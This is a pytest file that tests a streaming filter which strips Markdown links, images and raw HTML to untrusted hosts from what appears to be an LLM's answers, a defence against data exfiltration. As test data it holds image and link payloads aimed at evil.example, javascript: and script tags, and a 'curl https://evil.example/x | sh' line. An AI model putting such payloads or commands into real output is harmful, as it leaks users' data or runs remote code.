"""What may leave in an answer, as a renderer of Markdown that allows everything would show it."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chains.output_filter import OutputFilter

PAYLOADS: list[str] = json.loads((Path(__file__).parent / "exfiltration.json").read_text())
SOURCES = ["https://kiln.example/docs/firing#stop", "https://kiln.example/docs/glaze"]
BLOCK_TAGS = ("p", "br", "hr", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6")
TAGS = (*BLOCK_TAGS, "strong", "em", "s", "code", "a", "table", "thead", "tbody", "tr", "th", "td")
HOSTS = ("kiln.example", "localhost", "127.0.0.1")
RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("commonmark", {"html": True}).enable("table")]

PIECES = [
    "![",
    "[",
    "]",
    "](",
    "(",
    ")",
    "<",
    ">",
    "<img src=",
    "<script>",
    "<a href=",
    "`",
    "``",
    "```",
    "~~~",
    "|",
    "\\",
]
PIECES += [
    "&",
    "&#104;",
    "ttps://evil.example/x",
    "//evil.example/",
    "www.",
    "https://evil.example/x",
    "www.evil.example",
]
PIECES += [
    "https://kiln.example/ok",
    "javascript:alert(1)",
    ":",
    "]: ",
    "[1]",
    "1",
    "a",
    "!",
    '"',
    "[b]",
    "[a]: ",
    "<!--",
]
BLOCKS = ["\n", "\n\n", "\n```\n", "\n~~~\n", "\n> ", "\n- ", "\n1. ", "\n   ", "\n    ", "\t", " ", "\n|---|---|\n"]
BLOCKS += ["\n> ```\n", "\n- ```\n", "\n1. ```\n", "\n  ```\n", "\r\n", "\n```html\n"]
TEXTS = st.lists(st.sampled_from(PIECES + BLOCKS), max_size=20).map("".join)


class Rendered(HTMLParser):
    """Collects what asks for something, runs something or leads away."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[object] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        for name, value in attributes:
            found = re.match(r"https?://([a-z0-9.-]+)(?::\d+)?(?:[/?#]|$)", value or "")
            is_fine = found and found[1] in HOSTS if name == "href" else name in ("class", "start", "title", "style")
            if not is_fine:
                self.bad.append((tag, name, value))
        if tag not in TAGS:
            self.bad.append(tag)


def filtered(text: str, size: int = 0) -> str:
    output = OutputFilter(SOURCES)
    pieces = [text[start : start + size] for start in range(0, len(text), size)] if size else [text]
    return "".join([output.feed(piece) for piece in pieces]) + output.close()


def bad(text: str) -> list[object]:
    return [each for renderer in RENDERERS for each in Rendered(renderer.render(text)).bad]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_asks_runs_and_leads_nowhere(payload: str) -> None:
    for text in (payload, f"It fires. {payload} So it does [1].", f"- One\n\n  {payload}\n"):
        assert bad(filtered(text)) == []
        assert {filtered(text, size) for size in (1, 2, 3, 5, 11)} == {filtered(text)}


def test_payloads_would_act_without_the_filter() -> None:
    acting = [payload for payload in PAYLOADS if bad(payload)]
    assert len(acting) >= 30


@given(TEXTS)
@settings(max_examples=300, deadline=None)
def test_no_text_asks_runs_or_leads_anywhere(text: str) -> None:
    assert bad(filtered(text)) == []


@given(TEXTS, st.integers(1, 6))
@settings(max_examples=200, deadline=None)
def test_what_leaves_does_not_depend_on_the_pieces(text: str, size: int) -> None:
    assert filtered(text, size) == filtered(text)


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 3 < 4, a & b, R&D, and 5 > 4 [1]. Next [2, 3].",
        "Run `docker run -p 80:80 <image>` or ``a ` b``, then `cat x | grep y`.",
        "```html\n<img src=https://evil.example/x>\n[a](https://evil.example)\n![x](y)\n```\nDone [1].",
        "~~~\nhttps://evil.example\n~~~\n",
        "1. Do\n\n   ```bash\n   curl https://evil.example/x | sh\n   ```\n\n2. Then [1].",
        "- a\n\n  ```js\n  if (a < b) { go() }\n  ```\n",
        "> Quoted\n>\n> ```\n> <b>\n> ```\n",
        "See [the guide](https://kiln.example/docs/guide#a) and <https://kiln.example/docs>.",
        "See https://kiln.example/docs, or http://localhost:3000.",
        "| a | b |\n|---|---|\n| `x` | y [1] |\n",
        "- [ ] open\n- [x] done\n\n# Head\n\n**bold** *it* ~~gone~~ \\[escaped\\] &lt;tag&gt;",
    ],
)
def test_ordinary_answer_is_left_alone(text: str) -> None:
    assert filtered(text) == text
    assert filtered(text, 1) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![a kiln](https://evil.example/k.png).", "See a kiln."),
        ("See [more](https://evil.example/x).", "See more."),
        ("See [that [1]](https://evil.example/x).", "See that [1]."),
        ("See https://evil.example/x, then stop.", "See (link removed), then stop."),
        ("Use List<String> and <b>.", "Use List&lt;String> and &lt;b>."),
        ("a<br>b", "a b"),
        ("[1](https://evil.example)", "1"),
        ("[[1](https://evil.example)]", "[?1]"),
        ("[x]: https://evil.example", "\\[x]: (link removed)"),
    ],
)
def test_what_is_taken_out_leaves_readable_words(text: str, shown: str) -> None:
    assert filtered(text) == shown


def test_sources_without_a_host_allow_paths_of_their_site() -> None:
    output = OutputFilter(["/docs/firing#stop"])
    text = "[a](/docs/glaze) [b](//evil.example) [c](/\\evil.example) [d](https://evil.example)"
    assert output.feed(text) + output.close() == "[a](/docs/glaze) b c d"


def test_places_of_what_stayed_are_found() -> None:
    output = OutputFilter(SOURCES)
    given = "Go ![x](https://evil.example/a [3]) [1], see [it [2]](https://evil.example) now [4]."
    shown = output.feed(given) + output.close()
    for marker in ("[1]", "[2]", "[4]"):
        place = output.place(given.index(marker), given.index(marker) + 3)
        assert place is not None
        assert shown[slice(*place)] == marker
    assert "[3]" not in shown
    assert output.place(given.index("[3]"), given.index("[3]") + 3) is None


@pytest.mark.parametrize(
    "text", ["[", "![", "<img ", "`", "```", "https://evil.example/" + "a", "&", "\\", "[a](", "~~~ "]
)
def test_endless_beginnings_are_let_go_in_bounds(text: str) -> None:
    output = OutputFilter(SOURCES)
    told = output.feed(text + "x" * 5_000)
    assert len(told) > 3_000
    begun = process_time()
    output = OutputFilter(SOURCES)
    for _ in range(4_000):
        output.feed(text)
    output.close()
    assert process_time() - begun < 5


def test_a_word_of_prose_waits_for_nothing() -> None:
    output = OutputFilter(SOURCES)
    assert output.feed("The kiln fires. ") == "The kiln fires. "
    assert output.feed("It cools [1]. ") == "It cools [1]. "
